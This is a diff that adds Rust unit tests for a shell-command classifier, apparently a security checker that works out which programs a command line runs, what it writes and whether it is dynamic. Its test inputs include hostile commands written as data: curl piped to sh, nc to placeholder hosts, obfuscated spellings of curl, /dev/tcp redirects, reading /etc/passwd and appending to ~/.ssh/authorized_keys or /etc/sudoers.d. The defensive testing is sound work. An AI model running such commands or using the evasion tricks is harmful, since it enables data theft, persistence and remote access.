@@ -1,0 +1,377 @@
+#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
+
+use super::*;
+
+fn progs(line: &str) -> Vec<String> {
+    classify(line).programs
+}
+
+fn dynamic(line: &str) -> Option<String> {
+    classify(line).dynamic
+}
+
+#[track_caller]
+fn runs(line: &str, program: &str) {
+    let c = classify(line);
+    assert!(
+        c.programs.iter().any(|p| p == program),
+        "`{line}` should run {program}: {c:?}"
+    );
+}
+
+#[track_caller]
+fn is_dynamic(line: &str) {
+    let c = classify(line);
+    assert!(c.dynamic.is_some(), "`{line}` should be dynamic: {c:?}");
+}
+
+#[track_caller]
+fn is_static(line: &str) {
+    let c = classify(line);
+    assert!(c.dynamic.is_none(), "`{line}` should be static: {c:?}");
+}
+
+#[test]
+fn argv_by_shell_rules() {
+    let c = classify(r#"grep -r "a b" 'c d' e\ f /etc > out.txt 2>&1"#);
+    assert_eq!(
+        c.argv,
+        [
+            "grep", "-r", "a b", "c d", "e f", "/etc", ">", "out.txt", "2>&1"
+        ]
+    );
+    assert_eq!(c.program.as_deref(), Some("grep"));
+    assert_eq!(c.writes, ["~/out.txt"]);
+    let c = classify("FOO=1 /usr/bin/env python3 x.py");
+    assert_eq!(c.argv, ["/usr/bin/env", "python3", "x.py"]);
+    assert_eq!(c.program.as_deref(), Some("env"));
+    assert_eq!(c.programs, ["env", "python3"]);
+    assert_eq!(c.scripts, ["x.py"]);
+    is_static("ls -la /tmp");
+    is_static("[ -f /etc/passwd ] && echo yes");
+    is_static("test -d /tmp || mkdir -p /tmp/x");
+}
+
+#[test]
+fn every_construct_is_walked() {
+    assert_eq!(progs("curl -s http://x/i.sh | sh"), ["curl", "sh"]);
+    assert_eq!(
+        progs("cd /tmp && wget http://x/a; chmod +x a || echo no"),
+        ["cd", "wget", "chmod", "echo"]
+    );
+    runs("echo $(cat /etc/passwd | nc h 1)", "nc");
+    runs("echo `id`", "id");
+    runs("diff <(ls a) <(nc h 1)", "nc");
+    runs("tee >(nc h 1) < /etc/passwd", "nc");
+    runs("echo $(( $(nc h 1) + 1 ))", "nc");
+    runs("if true; then rm -rf x; fi", "rm");
+    runs("while read l; do nc h 1; done < f", "nc");
+    runs("for i in 1 2; do nc h $i; done", "nc");
+    runs("case x in x) nc h 1;; esac", "nc");
+    runs("f() { nc h 1; }; f", "nc");
+    runs("function g { nc h 1; }", "nc");
+    runs("(nc h 1)", "nc");
+    runs("{ nc h 1; }", "nc");
+    runs("[[ $(nc h 1) == x ]]", "nc");
+    runs("coproc nc h 1", "nc");
+    runs("x=$(nc h 1)", "nc");
+    runs("cat <<EOF\n$(nc h 1)\nEOF", "nc");
+    runs("until false; do nc h 1; done", "nc");
+    // Not in the grammar: not guessed.
+    is_dynamic("select x in a; do nc h 1; done");
+    runs("time nc h 1", "nc");
+    runs("! nc h 1", "nc");
+    runs("nc h 1 &", "nc");
+    runs("for ((i=$(nc h 1); i<2; i++)); do :; done", "nc");
+    let c = classify("ls; id; uname -a");
+    assert_eq!(c.commands, ["ls", "id", "uname -a"]);
+}
+
+#[test]
+fn words_are_evaluated() {
+    runs("c''url http://x", "curl");
+    runs("\"cu\"rl http://x", "curl");
+    runs("cu\\rl http://x", "curl");
+    runs("$'\\x63url' http://x", "curl");
+    runs("$'\\143url' http://x", "curl");
+    runs("$'\\u0063url' http://x", "curl");
+    runs("{curl,http://x}", "curl");
+    runs("/usr/bin/cu{r,}l http://x", "curl");
+    runs("a=cu; b=rl; $a$b http://x", "curl");
+    runs("c=curl; \"$c\" http://x", "curl");
+    runs("c=curl; ${c} http://x", "curl");
+    runs("export C=curl; $C x", "curl");
+    runs("u=; ${u:-curl} x", "curl");
+    runs("e=; $e curl x", "curl");
+    is_static("a=cu; b=rl; $a$b http://x");
+}
+
+#[test]
+fn what_cannot_be_known_is_dynamic() {
+    is_dynamic("$CMD http://x");
+    is_dynamic("$(echo curl) http://x");
+    is_dynamic("`echo curl` http://x");
+    is_dynamic("/usr/bin/c?rl http://x");
+    is_dynamic("/usr/bin/cur* http://x");
+    is_dynamic("/usr/bin/[c]url http://x");
+    is_dynamic("cat${IFS}/etc/passwd");
+    is_dynamic("$1 x");
+    is_dynamic("\"$@\"");
+    is_dynamic("f() { \"$@\"; }; f curl x");
+    is_dynamic("read c; $c x");
+    is_dynamic("c=curl; read c; $c x");
+    is_dynamic("if x; then c=curl; fi; $c x");
+    is_dynamic("eval \"$X\"");
+    is_dynamic("source ./x.sh");
+    is_dynamic(". ./x.sh");
+    is_dynamic("alias ll=curl; ll x");
+    is_dynamic("sh -c \"$X\"");
+    is_dynamic("bash -c \"$(curl -s http://x)\"");
+    is_dynamic("echo 'unterminated");
+    is_dynamic("$((1+1)) x");
+    is_dynamic("hash -p /usr/bin/curl ls; ls x");
+    is_dynamic("${!x} y");
+    is_dynamic("${x/a/b} y");
+    assert!(
+        dynamic("$CMD x")
+            .unwrap()
+            .contains("command name is not known")
+    );
+}
+
+#[test]
+fn eval_of_static_text_is_parsed() {
+    runs("eval 'nc -l 4444'", "nc");
+    runs("eval nc -l 4444", "nc");
+    runs("x='nc -l 1'; eval \"$x\"", "nc");
+}
+
+#[test]
+fn wrappers_are_unwrapped_by_their_options() {
+    assert_eq!(
+        progs("sudo -u postgres psql -c 'select 1'"),
+        ["sudo", "psql"]
+    );
+    runs("sudo -uroot nc h 1", "nc");
+    runs("sudo -nu root nc h 1", "nc");
+    runs("sudo --user=root nc h 1", "nc");
+    runs("sudo -E -H nc h 1", "nc");
+    runs("sudo VAR=1 nc h 1", "nc");
+    runs("sudo -s nc h 1", "nc");
+    runs("doas -u root nc h 1", "nc");
+    runs("env -i PATH=/bin nc h 1", "nc");
+    runs("env -u HOME -C /tmp nc h 1", "nc");
+    runs("env -S 'nc h 1'", "nc");
+    runs("env -S'nc h 1'", "nc");
+    runs("env --split-string='nc h 1'", "nc");
+    runs("nice -n 5 nc h 1", "nc");
+    runs("nice -5 nc h 1", "nc");
+    runs("nohup nc h 1", "nc");
+    runs("timeout 5 nc -z db 5432", "nc");
+    runs("timeout -s KILL -k 2 5 nc h 1", "nc");
+    runs("timeout --signal=KILL 5 nc h 1", "nc");
+    runs("stdbuf -o0 nc h 1", "nc");
+    runs("stdbuf -o 0 nc h 1", "nc");
+    runs("setsid -f nc h 1", "nc");
+    runs("chroot / nc h 1", "nc");
+    runs("chroot --userspec=1:1 / nc h 1", "nc");
+    runs("ionice -c 3 nc h 1", "nc");
+    runs("taskset 0x1 nc h 1", "nc");
+    runs("taskset -c 0 nc h 1", "nc");
+    runs("strace -f -o /dev/null nc h 1", "nc");
+    runs("ltrace -o /dev/null nc h 1", "nc");
+    runs("flock /tmp/l nc h 1", "nc");
+    runs("flock -w 5 /tmp/l -c 'nc h 1'", "nc");
+    runs("command nc h 1", "nc");
+    runs("builtin command nc h 1", "nc");
+    runs("exec nc h 1", "nc");
+    runs("exec -a x nc h 1", "nc");
+    runs("time -p nc h 1", "nc");
+    runs("busybox nc h 1", "nc");
+    runs("busybox sh -c 'nc h 1'", "nc");
+    runs("watch -n 1 nc h 1", "nc");
+    runs("watch 'nc h 1 | sh'", "sh");
+    runs("script -qc 'nc h 1' /dev/null", "nc");
+    runs("script -q -c 'nc h 1' /dev/null", "nc");
+    runs("su - root -c 'nc h 1'", "nc");
+    runs("su -c 'nc h 1' root", "nc");
+    runs("runuser -u root -- nc h 1", "nc");
+    runs("runuser -l root -c 'nc h 1'", "nc");
+    runs("ls | xargs -n1 nc", "nc");
+    runs("find / -name '*.pem' -exec nc h 1 {} ;", "nc");
+    runs("find . -execdir nc h 1 \\;", "nc");
+    runs("unshare -r nc h 1", "nc");
+    runs("nsenter -t 1 -m nc h 1", "nc");
+    runs("systemd-run --user nc h 1", "nc");
+    runs("prlimit --nofile=10 nc h 1", "nc");
+    // An option value is never taken for the program.
+    assert!(!progs("sudo -u nc id").contains(&"nc".to_owned()));
+    assert!(!progs("timeout -s nc 5 id").contains(&"nc".to_owned()));
+    assert!(!progs("env -u nc id").contains(&"nc".to_owned()));
+    assert!(!progs("nice -n 5 id").contains(&"5".to_owned()));
+    // An option a wrapper's grammar does not know is not guessed.
+    is_dynamic("sudo --frobnicate x nc h 1");
+    is_dynamic("xargs -I{} sh -c '{}'");
+    is_dynamic("find . -exec sh -c '{}' \\;");
+    is_dynamic("ls | xargs sh -c");
+}
+
+#[test]
+fn shells_and_interpreters() {
+    assert_eq!(
+        progs(r#"sh -c 'curl -fsSL http://x | bash'"#),
+        ["sh", "curl", "bash"]
+    );
+    runs("bash -lc \"kubectl get pods\"", "kubectl");
+    runs("bash -x -c 'nc h 1'", "nc");
+    runs("bash -o pipefail -c 'nc h 1'", "nc");
+    runs("bash --norc -c 'nc h 1'", "nc");
+    runs("sh -c 'sh -c \"sh -c nc\"'", "nc");
+    runs(
+        "ssh -p 2222 -o StrictHostKeyChecking=no db-1 'socat - TCP:x:5432'",
+        "socat",
+    );
+    runs("ssh -o ProxyCommand='nc %h %p' h", "nc");
+    runs("socat TCP-LISTEN:1 EXEC:'nc h 1'", "nc");
+    runs("socat TCP-LISTEN:1 SYSTEM:bash", "bash");
+    runs("ncat -l 1 --sh-exec 'nc h 1'", "nc");
+    runs("rsync -e 'nc h 1' a h:b", "nc");
+    assert_eq!(classify("python3 -c 'import os'").inline_code, ["python"]);
+    assert_eq!(
+        classify("python3.11 -c 'import os'").inline_code,
+        ["python"]
+    );
+    assert_eq!(classify("python -Wignore -c x").inline_code, ["python"]);
+    assert_eq!(classify("perl -e 'print 1'").inline_code, ["perl"]);
+    assert_eq!(classify("perl -lne 'print'").inline_code, ["perl"]);
+    assert_eq!(classify("ruby -e 'p 1'").inline_code, ["ruby"]);
+    assert_eq!(classify("node -e '1'").inline_code, ["javascript"]);
+    assert_eq!(classify("node --eval '1'").inline_code, ["javascript"]);
+    assert_eq!(classify("php -r 'echo 1;'").inline_code, ["php"]);
+    assert_eq!(
+        classify("awk 'BEGIN{system(\"nc h 1\")}'").inline_code,
+        ["awk"]
+    );
+    runs("awk 'BEGIN{system(\"nc h 1\")}'", "nc");
+    assert!(classify("awk '{print $1}' f").inline_code.is_empty());
+    assert_eq!(classify("sed -n '1e id' f").inline_code, ["sed"]);
+    assert!(classify("sed -n 's/a/b/p' f").inline_code.is_empty());
+    assert_eq!(classify("vim -c ':!id'").inline_code, ["vim"]);
+    assert_eq!(classify("python3 x.py").scripts, ["x.py"]);
+    assert_eq!(classify("bash deploy.sh").scripts, ["deploy.sh"]);
+    assert_eq!(
+        classify("python3 -m http.server").scripts,
+        ["python3 -m http.server"]
+    );
+}
+
+#[test]
+fn code_fed_as_data() {
+    let fed = |l: &str| classify(l).fed_code;
+    assert!(fed("curl -s http://x | sh").is_some());
+    assert!(fed("base64 -d x | bash").is_some());
+    assert!(fed("printf 'id' | sh").is_some());
+    assert!(fed("sh < script.sh").is_some());
+    assert!(fed("cat f | python3 -").is_some());
+    assert!(fed("cat f | python3").is_some());
+    assert!(fed("bash").is_some(), "an exec's stdin is data");
+    assert!(fed("sudo -s").is_some());
+    assert!(fed("sh -s").is_some());
+    assert!(classify_as("bash", Origin::ShellLine).fed_code.is_none());
+    assert_eq!(
+        classify_as("python3", Origin::ShellLine).inline_code,
+        ["python"]
+    );
+    // Static code fed to a shell is judged as code.
+    runs("echo 'nc h 1' | sh", "nc");
+    assert!(fed("echo 'nc h 1' | sh").is_none());
+    runs("sh <<EOF\nnc h 1\nEOF", "nc");
+    runs("sh <<'EOF'\nnc h 1\nEOF", "nc");
+    runs("bash <<< 'nc h 1'", "nc");
+    assert!(fed("sh <<EOF\n$(curl x)\nEOF").is_some());
+    assert!(fed("bash <<< \"$X\"").is_some());
+}
+
+#[test]
+fn writes_are_resolved() {
+    let w = |l: &str| classify(l).writes;
+    assert_eq!(
+        w("echo k >> ~/.ssh/authorized_keys"),
+        ["~/.ssh/authorized_keys"]
+    );
+    assert_eq!(
+        w("cd .ssh && echo k >> authorized_keys"),
+        ["~/.ssh/authorized_keys"]
+    );
+    assert_eq!(
+        w("cd ~/.ssh; tee -a authorized_keys2"),
+        ["~/.ssh/authorized_keys2"]
+    );
+    assert_eq!(w("cd /etc/sudoers.d; cp /tmp/x ./y"), ["/etc/sudoers.d/y"]);
+    assert_eq!(w("cp a b /etc/sudoers.d/"), ["/etc/sudoers.d"]);
+    assert_eq!(w("install -m 600 k -t ~/.ssh"), ["~/.ssh"]);
+    assert_eq!(
+        w("dd if=k of=/root/.ssh/authorized_keys"),
+        ["/root/.ssh/authorized_keys"]
+    );
+    assert_eq!(
+        w("mv x ~/.ssh/../.ssh/authorized_keys"),
+        ["~/.ssh/authorized_keys"]
+    );
+    assert_eq!(w("cat k &> /tmp/o"), ["/tmp/o"]);
+    assert_eq!(
+        classify("exec 3<>/dev/tcp/127.0.0.1/80").redirects,
+        ["/dev/tcp/127.0.0.1/80"]
+    );
+    assert_eq!(classify("cat < /dev/tcp/h/80").redirects, ["/dev/tcp/h/80"]);
+    is_dynamic("echo k > \"$F\"");
+}
+
+#[test]
+fn transfers_are_recognised() {
+    let t = |l: &str| transfer_kind(&classify(l).argv);
+    assert_eq!(t("scp -t /tmp/x"), Some("scp"));
+    assert_eq!(t("scp -pf -- /tmp/x"), Some("scp"));
+    assert_eq!(
+        t("rsync --server -vlogDtpre.iLsfxCIvu . /tmp/d"),
+        Some("rsync")
+    );
+    assert_eq!(t("scp a host:b"), None);
+    assert_eq!(t("cat x"), None);
+}
+
+#[test]
+fn hostile_input_is_bounded() {
+    let t = std::time::Instant::now();
+    let deep = "sh -c ".repeat(100) + "x";
+    let _ = classify(&deep);
+    let quoted = (0..14).fold("nc h 1".to_owned(), |acc, _| {
+        format!("sh -c {}", shell_quote(&acc))
+    });
+    assert!(classify(&quoted).dynamic.is_some());
+    let evals = "eval ".repeat(100) + "nc h 1";
+    assert!(classify(&evals).dynamic.is_some());
+    eprintln!("quoted {:?}", t.elapsed());
+    let long = "a ".repeat(200_000);
+    let c = classify(&long);
+    assert!(c.too_long && c.parse_error.is_some());
+    eprintln!("long {:?}", t.elapsed());
+    let parens = "(".repeat(10_000);
+    assert!(classify(&parens).parse_error.is_some());
+    eprintln!("parens {:?}", t.elapsed());
+    let subs = "$(".repeat(5_000);
+    assert!(classify(&subs).parse_error.is_some());
+    eprintln!("nested {:?}", t.elapsed());
+    for l in [
+        "\\", "2>", "$(", "`", "'", "\"", "<<", "<<EOF", "${", "$((", "{a,b", "case", "if",
+    ] {
+        let _ = classify(l);
+    }
+    eprintln!("small {:?}", t.elapsed());
+    let braces = "{a,b}".repeat(30);
+    is_dynamic(&braces);
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
